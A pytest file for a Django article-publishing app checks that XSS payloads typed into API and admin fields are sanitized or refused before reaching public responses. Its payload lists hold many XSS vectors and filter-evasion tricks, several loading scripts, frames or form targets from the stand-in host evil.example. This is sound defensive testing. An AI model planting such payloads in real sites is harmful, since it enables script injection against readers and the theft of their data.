"""Hostile content: XSS payloads typed into every text field, through the editorial API and the
admin, come out inert in every public response and in the admin preview.

Markdown fields (the intro, section bodies) accept anything and are sanitized when rendered.
Plain-text fields refuse markup with a message, so nothing reaches readers that a frontend could
mistake for HTML (say, a title inlined into a JSON-LD <script> block).
"""

import json
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.test import Client
from django.urls import reverse

from articles import workflow
from articles.models import Article, Review
from articles.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from tests.articles.test_admin_workflow import admin_form_data
from tests.articles.test_editorial_api import client_for, new_article_payload
from tests.factories import ArticleFactory, ReviewerFactory, SectionFactory, TagFactory

pytestmark = pytest.mark.django_db

# Each payload tries one way of getting script, a frame or a foreign URL into a page.
MARKUP_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="mailto:someone@example.com">mail</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">hi</p>',
    '<form action="https://evil.example"><input name=q></form>',
    "<div><p>unclosed <b onmouseover=alert(1)>bold",
    "<!--<script>-->alert(1)",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example)}</style>",
]
MARKDOWN_PAYLOADS = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](javascript:alert(1))",
    "[tel](tel:+15550100)",
    "<javascript:alert(1)>",
    "[x](&#106;avascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "\u202eevil text reversed",
]
# Links readers should keep.
KEPT_LINKS = (
    "[NHS](https://www.nhs.uk/) and [plain](http://example.org/) and [cramps](article:calf-cramps)"
)

PLAIN_TEXT_REFUSED = [
    *MARKUP_PAYLOADS,
    "Safe title \u202eevil",
    "Zero\x00byte",
]
PLAIN_TEXT_KEPT = ["javascript:alert(1)", "Sodium under <5 mmol/L", "a < b & c > d"]

_MARKUP = re.compile(r"<[a-zA-Z/!?]")


def _safe_url(url):
    """An http(s) URL, or one relative to the page (a browser runs neither)."""
    return urlsplit(url.strip()).scheme in ("http", "https", "")


class _Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES.get(tag, set()) and name != "rel":
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src") and not _safe_url(value or ""):
                self.problems.append(f"{name}={value!r}")

    def handle_comment(self, data):
        self.problems.append(f"comment {data!r}")


def html_problems(html):
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


def json_problems(value, path="$"):
    """Everything in a public JSON value that a browser could run or follow somewhere odd."""
    if isinstance(value, dict):
        return [p for key, item in value.items() for p in _field_problems(key, item, path)]
    if isinstance(value, list):
        return [p for i, item in enumerate(value) for p in json_problems(item, f"{path}[{i}]")]
    return []


def _field_problems(key, item, path):
    where = f"{path}.{key}"
    if not isinstance(item, str):
        return json_problems(item, where)
    if key.endswith("html"):
        return [f"{where}: {problem}" for problem in html_problems(item)]
    if _MARKUP.search(item):
        return [f"{where}: markup in plain text {item[:60]!r}"]
    if key in ("url", "src", "href") and urlsplit(item).scheme not in ("http", "https"):
        return [f"{where}: URL {item!r}"]
    return []


@pytest.fixture
def hostile_article(writer, reviewer, editor):
    """A live article whose Markdown fields hold every payload, with links worth keeping."""
    TagFactory(name="Leg Pain", slug="leg-pain")
    target = ArticleFactory(author=writer, slug="calf-cramps", title="Calf cramps")
    SectionFactory(article=target)
    publish(target, writer, reviewer, editor)
    payloads = MARKUP_PAYLOADS + MARKDOWN_PAYLOADS
    body = new_article_payload(
        tags=["leg-pain"],
        related_topics=[{"slug": "calf-cramps", "blurb": "javascript:alert(1) as plain text"}],
        intro="\n\n".join([KEPT_LINKS, *payloads]),
        sections=[
            {"heading": f"Part {index}", "body": f"Before.\n\n{payload}\n\nAfter."}
            for index, payload in enumerate(payloads)
        ],
    )
    response = client_for(writer).post("/api/v1/editorial/articles/", body, format="json")
    assert response.status_code == 201, response.json()
    article = Article.objects.get(slug=body["slug"])
    publish(article, writer, reviewer, editor)
    return article


def publish(article, writer, reviewer, editor):
    workflow.submit(article=article, by=writer, reviewers=[reviewer.reviewer_profile])
    review = Review.objects.get(revision__article=article, decision=Review.Decision.PENDING)
    workflow.approve(review=review, by=reviewer)
    workflow.publish(article=article, by=editor)


def public_json(path):
    response = Client().get(path)
    assert response.status_code == 200, path
    assert response.headers["Content-Type"].startswith("application/json")
    return response.json()


def test_markdown_payloads_come_out_inert_in_every_public_response(hostile_article, writer):
    slug = hostile_article.slug
    token = client_for(writer).post(
        f"/api/v1/editorial/articles/{hostile_article.pk}/preview-token/", {}, format="json"
    )
    preview_path = urlsplit(token.json()["api_url"]).path
    paths = [
        f"/api/v1/articles/{slug}/",
        "/api/v1/articles/",
        "/api/v1/articles/?q=alert",
        "/api/v1/articles/?tag=leg-pain",
        "/api/v1/tags/",
        "/api/v1/tags/leg-pain/",
        "/api/v1/reviewers/",
        "/api/v1/reviewers/jane-roe/",
        preview_path,
    ]
    for path in paths:
        problems = json_problems(public_json(path))
        assert problems == [], (path, problems)
    document = public_json(f"/api/v1/articles/{slug}/")
    assert 'href="https://www.nhs.uk/"' in document["intro_html"]
    assert 'href="http://example.org/"' in document["intro_html"]
    assert "/calf-cramps" in document["intro_html"]  # the article: link, resolved
    assert "alert(1)" in json.dumps(document)  # the payloads are there, as text
    assert "mailto:" not in json.dumps(document)


def test_feed_and_sitemap_carry_no_markup_from_the_payloads(hostile_article):
    feed = Client().get("/feeds/articles/").content.decode()
    sitemap = Client().get("/sitemap.xml").content.decode()
    for text in (feed, sitemap):
        assert "<script" not in text.lower()
        assert "javascript:" not in text.lower()
        assert "onerror" not in text


def test_the_admin_preview_shows_the_payloads_inert(client, hostile_article, writer):
    client.force_login(writer)
    url = reverse("admin:articles_article_preview", args=[hostile_article.pk])
    html = client.get(url).content.decode()
    start = html.index('<article class="article-preview">')
    article_html = html[start : html.index("</article>", start)]
    assert "Part 33" in article_html  # the whole article is there
    assert not re.search(
        r"<(script|style|iframe|object|embed|svg|math|form|input|base|meta|link)\b", article_html
    )
    assert not re.search(r"\son\w+=", article_html)
    assert not re.search(r'(href|src)="\s*(javascript|data|vbscript|mailto):', article_html, re.I)


@pytest.mark.parametrize("payload", PLAIN_TEXT_REFUSED)
def test_the_api_refuses_markup_in_every_plain_text_field(writer, payload):
    fields = {
        "title": {"title": payload},
        "summary": {"summary": payload},
        "disclaimer": {"disclaimer": payload},
        "byline": {"byline": payload},  # refused as markup before as a writer's (editors') field
        "sections": {"sections": [{"heading": payload, "body": "Fine."}]},
        "references": {"references": [{"label": payload, "url": "https://example.org/"}]},
        "related_topics": {"related_topics": [{"slug": "calf-cramps", "blurb": payload}]},
    }
    ArticleFactory(author=writer, slug="calf-cramps")
    for field, change in fields.items():
        body = new_article_payload(tags=[], related_topics=[]) | change
        response = client_for(writer).post("/api/v1/editorial/articles/", body, format="json")
        assert response.status_code == 400, (field, response.json())
        assert field in response.json()["errors"], field
        assert not Article.objects.filter(slug="shin-splints").exists()


@pytest.mark.parametrize("payload", PLAIN_TEXT_REFUSED)
def test_the_admin_refuses_markup_in_plain_text_fields(client, writer, editor, payload):
    article = ArticleFactory(author=writer, slug="calf-cramps", title="Calf cramps")
    SectionFactory(article=article, heading="What helps")
    client.force_login(writer)
    change = reverse("admin:articles_article_change", args=[article.pk])
    for field in ("title", "summary", "sections-0-heading"):
        response = client.post(change, {**admin_form_data(article), field: payload})
        assert response.status_code == 200, field  # the form again, with its error
        assert "plain text" in response.content.decode() or "control character" in (
            response.content.decode()
        )
    article.refresh_from_db()
    assert article.title == "Calf cramps"
    client.force_login(editor)
    response = client.post(
        reverse("admin:reviewers_reviewer_add"), {"name": payload, "slug": "x", "is_active": "on"}
    )
    assert response.status_code == 200
    assert "name" in response.context["adminform"].form.errors
    response = client.post(reverse("admin:tags_tag_add"), {"name": payload, "slug": "x"})
    assert "name" in response.context["adminform"].form.errors


@pytest.mark.parametrize("text", PLAIN_TEXT_KEPT)
def test_plain_text_that_only_looks_odd_is_kept_as_it_is(writer, reviewer, editor, text):
    ReviewerFactory(name="Sam Poe", slug="sam-poe", credentials=text)
    body = new_article_payload(tags=[], related_topics=[], title=text, summary=text)
    response = client_for(writer).post("/api/v1/editorial/articles/", body, format="json")
    assert response.status_code == 201, response.json()
    article = Article.objects.get(slug="shin-splints")
    publish(article, writer, reviewer, editor)
    document = public_json("/api/v1/articles/shin-splints/")
    assert document["title"] == document["summary"] == text
    assert json_problems(document) == []
